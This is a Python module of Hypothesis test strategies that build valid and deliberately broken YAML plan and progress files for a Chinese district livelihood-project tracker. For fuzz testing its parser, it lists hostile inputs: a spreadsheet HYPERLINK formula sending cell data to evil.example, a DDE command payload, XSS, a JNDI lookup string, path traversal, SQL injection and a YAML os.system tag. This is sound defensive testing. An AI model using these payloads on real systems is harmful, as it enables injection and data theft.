"""Hypothesis strategies: valid plans and progress files as YAML text, and ways to break them.

A valid plan is built as plain data that satisfies every rule of the schema and of the checks
across records (ids 1..N, category counts, known units, roll-ups that add up), then dumped to
YAML in a random layout. Mutations break it at the level of the data (a field dropped, a type
swapped, a value out of range, a record duplicated) or of the text and bytes (a key repeated,
a line cut, an alias or a tag inserted, a foreign encoding, random bytes).
"""

from __future__ import annotations

import datetime as dt
import random
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from decimal import Decimal
from typing import Any, TypeVar

import yaml
from hypothesis import strategies as st

from minsheng.core.typography import invisible_char
from minsheng.core.yamlio import resolve_plain

T = TypeVar("T")

# --- text ------------------------------------------------------------------------------------

# Letters people write in the data: Chinese (a few common and one rare block), full-width
# digits and punctuation, ASCII, and the characters that mean something to YAML, CSV, HTML,
# Markdown or a terminal.
_CHINESE = "民生实事区残联人社局城管民政康复救助就业培训补贴标准供电可靠性低保參與復" + "𠀀𠀁"
_FULLWIDTH = "０１２３４５６７８９，。：；（）％！？「」【】〔〕、—…"
_SPECIAL = "=+-@|%<>&\"'`*_[]{}#:!?,;/\\$~^ \u00a0\u3000"
_ASCII = "abcxyzABCXYZ0123456789"
SAFE_CHARS = _CHINESE + _FULLWIDTH + _SPECIAL + _ASCII

safe_text = st.text(st.sampled_from(SAFE_CHARS), min_size=1, max_size=10)
# What hostile users type into a note or a title: formulas, markup, links, control keys.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "|calc",
    "%0A",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">点我</a>',
    "[点我](javascript:alert(1))",
    "{{7*7}}",
    "${jndi:ldap://x}",
    "[red]红字[/red]",
    "\x1b[31m红字",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "&amp;&lt;",
    "'; DROP TABLE entries; --",
)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), safe_text),
    st.builds(lambda a, b: a + b, safe_text, st.sampled_from(HOSTILE)),
)


def _one_line(text: str) -> str:
    """Text a plan accepts: one line, no control characters (a tab is allowed)."""
    return "".join(c for c in text if c in "\t\u00a0\u3000" or c.isprintable()) or "空"


def unit_name(text: str) -> str:
    """A unit name a plan accepts: nothing that shows as nothing or passes for a space (a name
    holding one looks like another name), hostile as it may otherwise be."""
    kept = "".join(c for c in _one_line(text) if c == " " or invisible_char(c) is None)
    return kept.strip(" ") or "单位"


def apart_when_folded(names: list[str]) -> list[str]:
    """The names that differ once written alike (NFKC), as the plan's checks compare them."""
    seen: set[str] = set()
    kept = []
    for name in names:
        folded = unicodedata.normalize("NFKC", name)
        if folded not in seen:
            seen.add(folded)
            kept.append(name)
    return kept


# Hostile, but what a valid plan or a valid progress file can carry.
plan_text = st.one_of(safe_text, hostile_text.map(_one_line))


# --- YAML ------------------------------------------------------------------------------------


class _Dumper(yaml.CSafeDumper):
    """Plain data to YAML the way a person would write it: numbers exact, strings as strings."""

    def ignore_aliases(self, data: Any) -> bool:
        return True  # a shared value is written out again, never as an anchor and alias


def _str(dumper: yaml.CSafeDumper, text: str) -> yaml.Node:
    # Quote whatever minsheng would read as something other than this string (YAML 1.2).
    style = None if resolve_plain(text) == text and isinstance(resolve_plain(text), str) else '"'
    return dumper.represent_scalar("tag:yaml.org,2002:str", text, style=style)


def _decimal(dumper: yaml.CSafeDumper, number: Decimal) -> yaml.Node:
    if number.is_nan():
        text = ".nan"
    elif number.is_infinite():
        text = "-.inf" if number < 0 else ".inf"
    else:
        text = format(number, "f")
        if "." not in text:
            return dumper.represent_scalar("tag:yaml.org,2002:int", text)
    return dumper.represent_scalar("tag:yaml.org,2002:float", text)


_Dumper.add_representer(str, _str)
_Dumper.add_representer(Decimal, _decimal)


@st.composite
def layouts(draw: st.DrawFn) -> dict[str, Any]:
    """How a person (or an editor) lays the YAML out."""
    return {
        "default_flow_style": draw(st.sampled_from([False, None, True])),
        "indent": draw(st.integers(2, 6)),
        "width": draw(st.sampled_from([80, 4096])),
        "allow_unicode": draw(st.booleans()),
        "explicit_start": draw(st.booleans()),
    }


def dump(data: Any, layout: dict[str, Any] | None = None) -> str:
    options = layout or {"default_flow_style": False, "allow_unicode": True}
    text: str = yaml.dump(data, Dumper=_Dumper, sort_keys=False, **options)
    return text


# --- choosing: by hypothesis (shrinks well) or by a seeded Random (fast) -----------------


class Pick:
    """The choices a builder makes; hypothesis draws them or a seeded Random makes them.

    The plans of the bulk tests come from a seed: one draw instead of hundreds, so thousands
    of files a minute; the mutations applied to them are still drawn by hypothesis.
    """

    def integer(self, low: int, high: int) -> int:
        raise NotImplementedError

    def text(self) -> str:
        raise NotImplementedError

    def choice(self, options: Sequence[T]) -> T:
        return options[self.integer(0, len(options) - 1)]

    def boolean(self) -> bool:
        return self.integer(0, 1) == 1

    def distinct(self, make: Callable[[], T], count: int) -> list[T]:
        """`count` different values from `make` (fewer if it keeps repeating itself)."""
        found: list[T] = []
        for _ in range(count * 4):
            value = make()
            if value not in found:
                found.append(value)
            if len(found) == count:
                break
        return found

    def slug(self) -> str:
        return self.choice("abcdefghjkmnpqrstuvwxyz") + "".join(
            self.choice("abc0123456789-xyz") for _ in range(self.integer(0, 5))
        )

    def day(self) -> dt.date:
        return dt.date(2024, 1, 1) + dt.timedelta(days=self.integer(0, 365))

    def amount(self) -> int | Decimal:
        whole = self.integer(1, 10**6)
        return Decimal(whole) / 100 if self.boolean() else whole


class DrawPick(Pick):
    def __init__(self, draw: st.DrawFn, text: st.SearchStrategy[str]) -> None:
        self.draw, self._text = draw, text

    def integer(self, low: int, high: int) -> int:
        return self.draw(st.integers(low, high))

    def text(self) -> str:
        return self.draw(self._text)


class RandomPick(Pick):
    def __init__(self, seed: int, hostile: bool = True) -> None:
        self.random, self.hostile = random.Random(seed), hostile

    def integer(self, low: int, high: int) -> int:
        return self.random.randint(low, high)

    def text(self) -> str:
        size = self.random.randint(1, 10)
        words = "".join(self.random.choice(SAFE_CHARS) for _ in range(size))
        if not self.hostile or self.random.random() < 0.5:
            return words
        return self.random.choice([words, ""]) + self.random.choice(HOSTILE)


# --- a valid plan ----------------------------------------------------------------------------

_MEASURES = {
    "quantity": ["人", "万人", "人次", "个", "户"],
    "level": ["%", "‰", "分"],
    "standard": ["元/月", "元/人", "元"],
}


def _quantity(pick: Pick, target_id: str) -> dict[str, Any]:
    kind = pick.choice(["quantity", "level", "standard"])
    target: dict[str, Any] = {
        "id": target_id,
        "name": _one_line(pick.text()),
        "kind": kind,
        "comparator": pick.choice(["at_least", "approx", "at_most"]),
        "value": pick.amount(),
        "unit": pick.choice(_MEASURES[kind]),
    }
    if pick.boolean():  # on the near side of the target, as 从A提高到B reads
        share = Decimal(pick.integer(1, 99)) / 100
        value = Decimal(target["value"])
        target["baseline"] = value * (1 + share if target["comparator"] == "at_most" else share)
    return target


def _item(pick: Pick, number: int, category: int, units: list[str]) -> dict[str, Any]:
    item: dict[str, Any] = {"id": number, "category": category, "title": _one_line(pick.text())}
    if pick.integer(0, 4) == 0:
        item["no_task"] = True
        return item
    item["units"] = pick.distinct(lambda: pick.choice(units), pick.integer(1, 2))
    ids = pick.distinct(pick.slug, pick.integer(1, 3))
    targets: list[dict[str, Any]] = []
    for target_id in ids[:-1] if len(ids) > 1 else ids:
        if pick.integer(0, 3) == 0:
            targets.append({"id": target_id, "name": _one_line(pick.text()), "kind": "milestone"})
        else:
            targets.append(_quantity(pick, target_id))
    item["targets"] = targets
    if len(ids) > 1:
        # The last id is a measure's sub-target; sometimes a roll-up of the first target.
        part = _quantity(pick, ids[-1])
        first = targets[0]
        if first["kind"] != "milestone" and pick.boolean():
            part["kind"], part["unit"] = first["kind"], first["unit"]
            part.pop("baseline", None)
            first["value"] = part["value"]
            first.pop("baseline", None)  # set for the value it had
            first["sum_of"] = [ids[-1]]
        item["measures"] = [{"text": _one_line(pick.text()), "targets": [part]}]
    if pick.boolean():
        item["notes"] = [_one_line(pick.text()) for _ in range(pick.integer(0, 2))]
    if pick.boolean():
        share = Decimal(pick.integer(0, 100)) / 100
        item["schedule"] = [{"date": pick.day(), "expected": share}]
    return item


def build_plan(pick: Pick) -> dict[str, Any]:
    """A small plan that passes every check (period 2024), as plain data."""
    drawn = pick.distinct(lambda: unit_name(pick.text()), pick.integer(1, 3))
    unit_names = apart_when_folded(drawn)
    unit_ids = pick.distinct(pick.slug, len(unit_names))
    unit_names = unit_names[: len(unit_ids)]
    categories = [_one_line(pick.text()) for _ in range(pick.integer(1, 3))]
    items: list[dict[str, Any]] = []
    counts = [0] * len(categories)
    for number in range(1, pick.integer(1, 3) + 1):
        category = pick.integer(1, len(categories))
        counts[category - 1] += 1
        items.append(_item(pick, number, category, unit_names))
    behind = pick.integer(1, 40)
    document: dict[str, Any] = {
        "title": _one_line(pick.text()),
        "number": _one_line(pick.text()),
        "issuer": _one_line(pick.text()),
        "date": pick.day(),
        "year": 2024,
        "period": {"start": dt.date(2024, 1, 1), "end": dt.date(2024, 12, 31)},
    }
    return {
        "schema_version": 2,
        "document": document,
        "thresholds": {"behind": behind, "lagging": behind + pick.integer(1, 40)},
        "categories": [
            {"id": no, "name": name, "count": count}
            for no, (name, count) in enumerate(zip(categories, counts, strict=True), 1)
        ],
        "units": [
            {"id": unit_id, "name": name}
            for unit_id, name in zip(unit_ids, unit_names, strict=True)
        ],
        "items": items,
    }


@st.composite
def plans(draw: st.DrawFn, text: st.SearchStrategy[str] = safe_text) -> dict[str, Any]:
    """Valid plans drawn choice by choice: slower, but a failure shrinks to a small plan."""
    return build_plan(DrawPick(draw, text))


seeded_plans = st.integers(0, 2**32 - 1).map(lambda seed: build_plan(RandomPick(seed)))


# --- breaking data ---------------------------------------------------------------------------

Path_ = tuple[str | int, ...]


def walk(data: Any, path: Path_ = ()) -> Iterator[tuple[Path_, Any]]:
    """Every value in nested dicts and lists with its path (the root has the path ())."""
    yield path, data
    if isinstance(data, dict):
        for key, value in data.items():
            yield from walk(value, (*path, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from walk(value, (*path, index))


def _parent(data: Any, path: Path_) -> Any:
    for part in path[:-1]:
        data = data[part]
    return data


junk = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**30), 10**30),
    st.decimals(allow_nan=True, allow_infinity=True, places=3),
    st.text(max_size=12),
    st.sampled_from(
        [
            "",
            "~",
            "yes",
            "no",
            "on",
            "0x1F",
            "012",
            "1_000",
            "1e3",
            "1:30",
            ".5",
            "2024-02-30",
            "2024-13-01",
            "2024/06/30",
            "２０２４－０６－３０",
            "７７６",
            "nan",
            "-.inf",
            "null",
            "true",
        ]
    ),
    st.dates(),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=4), st.integers(), max_size=2),
)
out_of_range = st.sampled_from(
    [0, -1, -(10**12), 10**40, Decimal("-0.5"), Decimal("1.5"), Decimal("1e-30"), Decimal(101)]
)


@st.composite
def break_data(draw: st.DrawFn, data: Any) -> Any:
    """The data with one to three things wrong in it (a new copy)."""
    import copy

    data = copy.deepcopy(data)
    for _ in range(draw(st.integers(1, 3))):
        paths = [path for path, _ in walk(data) if path]
        if not paths:
            return draw(junk)
        path = draw(st.sampled_from(paths))
        parent = _parent(data, path)
        how = draw(st.sampled_from(["drop", "swap", "range", "unknown", "repeat"]))
        if how == "drop":
            del parent[path[-1]]
        elif how == "swap":
            parent[path[-1]] = draw(junk)
        elif how == "range":
            parent[path[-1]] = draw(out_of_range)
        elif how == "unknown" and isinstance(parent, dict):
            parent[draw(st.text(min_size=1, max_size=8))] = draw(junk)
        elif how == "repeat" and isinstance(parent, list):
            parent.append(copy.deepcopy(parent[int(path[-1])]))
    return data


_SNIPPETS = [
    "&a ",
    "*a ",
    "<<: *a\n",
    "!!python/object/apply:os.system ['true'] ",
    "!ruby/object ",
    "!!binary ",
    "--- ",
    "\n...\n",
    "\n---\n",
    "? ",
    "{",
    "}",
    "[",
    "]",
    "\t",
    "%YAML 1.1\n",
    "\x00",
    "\ufeff",
    "\u202e",
    "\x85",
    "\u2028",
    "a: b: c",
    "- - -",
    "'",
    '"',
    "|",
    ">-",
    "#",
    ": ",
    "- ",
    "\r",
    "\r\n",
    "\\",
    "%TAG ! tag:evil:\n",
    "!<tag:yaml.org,2002:int> ",
]


@st.composite
def break_text(draw: st.DrawFn, text: str) -> str:
    """The text with one to three edits a careless hand or a broken tool could make."""
    for _ in range(draw(st.integers(1, 3))):
        lines = text.splitlines(keepends=True) or [""]
        at = draw(st.integers(0, len(lines) - 1))
        how = draw(st.sampled_from(["repeat", "drop", "swap", "cut", "insert", "indent"]))
        if how == "repeat":  # in a block mapping: the same key twice
            lines.insert(at, lines[at])
        elif how == "drop":
            del lines[at]
        elif how == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
        elif how == "cut":
            text = text[: draw(st.integers(0, len(text)))]
            continue
        elif how == "insert":
            column = draw(st.integers(0, len(lines[at])))
            snippet = draw(st.sampled_from(_SNIPPETS) | st.text(max_size=6))
            lines[at] = lines[at][:column] + snippet + lines[at][column:]
        else:
            lines[at] = draw(st.sampled_from(["\t", " ", "   "])) + lines[at]
        text = "".join(lines)
    return text


def encodings(text: str) -> st.SearchStrategy[bytes]:
    """The text's bytes as they may arrive: UTF-8 with or without BOM, CRLF, GBK, UTF-16."""

    def encode(how: str) -> bytes:
        if how == "bom":
            return b"\xef\xbb\xbf" + text.encode("utf-8")
        if how == "crlf":
            return text.replace("\n", "\r\n").encode("utf-8")
        if how in {"gbk", "utf-16", "latin-1"}:
            return text.encode(how, errors="replace")
        return text.encode("utf-8", errors="surrogatepass")

    return st.sampled_from(["utf-8", "bom", "crlf", "gbk", "utf-16", "latin-1"]).map(encode)


random_yaml = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=10) | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4)
    ),
    max_leaves=20,
).map(lambda data: dump(data))


FILE_KINDS = ("valid", "data", "text", "encoding", "yaml", "bytes")


@st.composite
def hostile_files(
    draw: st.DrawFn, data: st.SearchStrategy[Any], to_text: Callable[[Any, dict[str, Any]], str]
) -> tuple[str, bytes]:
    """A file that is valid, broken in its data, its text or its bytes, or noise: its kind
    and its bytes. `to_text(data, layout)` writes the data as the file's text."""
    how = draw(st.sampled_from(FILE_KINDS))
    if how == "yaml":
        return how, draw(random_yaml).encode("utf-8")
    if how == "bytes":
        return how, draw(st.binary(max_size=400))
    value = draw(data)
    if how == "data":
        value = draw(break_data(value))
    text = to_text(value, draw(layouts()))
    if how == "text":
        text = draw(break_text(text))
    elif how == "encoding":
        return how, draw(encodings(text))
    return how, text.encode("utf-8", errors="surrogatepass")


# --- valid progress for the small plan (tests/data/valid/plan_small.yaml) -------------------

# (item, target, kind, the unit that reports it as (name, id)) of the small plan: item 3 is
# co-led, its 低保 milestone 区民政局's (by), the rest its first lead unit's.
SMALL_TARGETS = (
    (1, "jobs", "quantity", (("区人社局", "rsj"),)),
    (1, "training", "quantity", (("区人社局", "rsj"),)),
    (1, "a", "quantity", (("区人社局", "rsj"),)),
    (1, "b", "quantity", (("区人社局", "rsj"),)),
    (3, "rate", "level", (("区城管局", "cgj"),)),
    (3, "subsidy", "standard", (("区城管局", "cgj"),)),
    (3, "power", "level", (("区城管局", "cgj"),)),
    (3, "dibao", "milestone", (("区民政局", "mzj"),)),
)
SOURCES = (None, "花残联〔2024〕12号", "https://example.org/a?b=1&c=2", "javascript:alert(1)")


def _note(pick: Pick) -> str | None:
    how = pick.integer(0, 3)
    if how == 0:
        return None
    if how == 1:
        return "第一行\n第二行\t(续)"
    return _one_line(pick.text())


_RANKS = {"未启动": 0, "推进中": 1, "已完成": 2}


def _stage(pick: Pick) -> tuple[str, int | None]:
    stage = pick.choice(["未启动", "推进中", "已完成"])
    return stage, pick.integer(0, 100) if stage == "推进中" and pick.boolean() else None


def _advance(stage: tuple[str, int | None]) -> tuple[int, int]:
    """How far a stage puts a milestone: its share (推进中 without a percent is half way),
    then the stage."""
    name, percent = stage
    share = {"未启动": 0, "已完成": 100}.get(name, 50 if percent is None else percent)
    return share, _RANKS[name]


def build_progress(pick: Pick) -> dict[str, list[dict[str, Any]]]:
    """Valid entries for the small plan, by file (`<YYYY-MM>/<unit-id>.yaml`), in file order."""
    chosen = pick.distinct(lambda: pick.choice(SMALL_TARGETS), pick.integer(1, 4))
    serial = pick.integer(0, 2**20)
    files: dict[str, list[dict[str, Any]]] = {}
    for item, target, kind, leads in chosen:
        name, unit_id = pick.choice(leads)
        count = pick.integer(1, 4)
        days = sorted(pick.distinct(pick.day, count))
        values = sorted(pick.distinct(lambda: pick.integer(0, 10_000), len(days)))
        # A milestone never goes back (checks.decreases): its stages, each with or without
        # a percent (推进中 without one counts half way), put in the order they advance.
        stages = sorted((_stage(pick) for _ in days), key=_advance)
        # Plausible for the target (never 100 times it): a share at most 100%, at most 10万人
        # for 0.57万人, whole 人次 for the counted targets (a fraction of a count is refused).
        scales = {"rate": 100, "power": 100, "jobs": 1000, "subsidy": 100}  # at most 100元/月
        scale = scales.get(target, 1)
        for day, value, (stage, percent) in zip(days, values, stages, strict=False):
            serial += 1
            entry: dict[str, Any] = {
                "id": f"{serial:09x}e",
                "item": item,
                "target": target,
                "date": day,
            }
            if kind == "milestone":
                entry["stage"] = stage
                if percent is not None:
                    entry["percent"] = percent
            else:
                entry["value"] = Decimal(value) / scale
            entry["unit"] = name
            note = _note(pick)
            if note is not None:
                entry["note"] = note
            source = pick.choice(SOURCES)
            if source is not None:
                entry["source"] = source
            entry["recorded_at"] = "2025-01-02T09:13:05+08:00"
            files.setdefault(f"{day:%Y-%m}/{unit_id}.yaml", []).append(entry)
    return files


@st.composite
def progress_trees(draw: st.DrawFn) -> dict[str, list[dict[str, Any]]]:
    return build_progress(DrawPick(draw, plan_text))


seeded_progress = st.integers(0, 2**32 - 1).map(lambda seed: build_progress(RandomPick(seed)))


def progress_text(entries: Any, layout: dict[str, Any] | None = None) -> str:
    """A progress file: a comment header, then each entry between `---` and `...`.

    `entries` is a list of entries; anything else (broken data) is written as one document.
    """
    options = dict(layout or {"default_flow_style": False, "allow_unicode": True})
    options.pop("explicit_start", None)
    documents = entries if isinstance(entries, list) else [entries]
    body = "".join(f"---\n{dump(entry, options)}...\n" for entry in documents)
    return "# 进度记录(测试生成)\n" + body
